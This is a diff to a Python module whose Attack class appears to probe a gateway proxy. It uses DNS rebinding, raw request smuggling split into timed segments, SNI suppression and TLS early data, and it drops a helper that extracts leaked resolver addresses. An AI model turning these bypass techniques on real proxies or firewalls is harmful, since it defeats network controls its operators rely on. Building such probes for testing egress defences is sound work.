@@ -4,8 +4,6 @@ from __future__ import annotations
 
 import base64
 import contextlib
-import os
-import re
 import socket
 import ssl
 import subprocess
@@ -51,7 +49,7 @@ class Attack:
                 sock.sendall(wire.hello(hello, str(tls), self.token))
                 return self._read(sock)
             if tls is not None or no_sni:
-                stream = wire.Tls(sock, None if no_sni else tls, alpn, cut, version)
+                stream = wire.Tls(sock, None if no_sni else tls, alpn, cut, version, early)
             if http:
                 send = f"GET /{self.token} HTTP/1.1\r\nHost: {http}\r\nConnection: close\r\n\r\n"
             for piece in pieces:
@@ -157,6 +155,8 @@ class Attack:
 
     def rebind(self, name: str, port: int = 0, way: str = "dns", kind: int = 1) -> str:
         """A listed name that leads inside. By the resolver and then directly, or left to the proxy to look up."""
+        if way != "dns" and name.startswith("r-flip"):
+            wire.lookup(name, self.gateway)  # what it says the first time is not what the proxy gets
         if way == "connect":
             return self.stream(f"{self.gateway}:3128", connect=f"{name}:{port}", tls=name if port == 443 else None, http=name)
         if way == "absolute":
@@ -206,11 +206,3 @@ class Attack:
     def smuggle(self, dial: str, text: str, after: float = 0.0) -> str:
         """Bytes of a request as they are; `|` in the text is a pause, so that what follows comes in a segment of its own."""
         return self.stream(dial, pieces=text.split("|"))
-
-
-def names_in(text: str) -> list[str]:
-    """Addresses that a resolver gave away."""
-    return re.findall(r"ADDRESS=(\S+)", text)
-
-
-__all__ = ["Attack", "names_in", "os"]
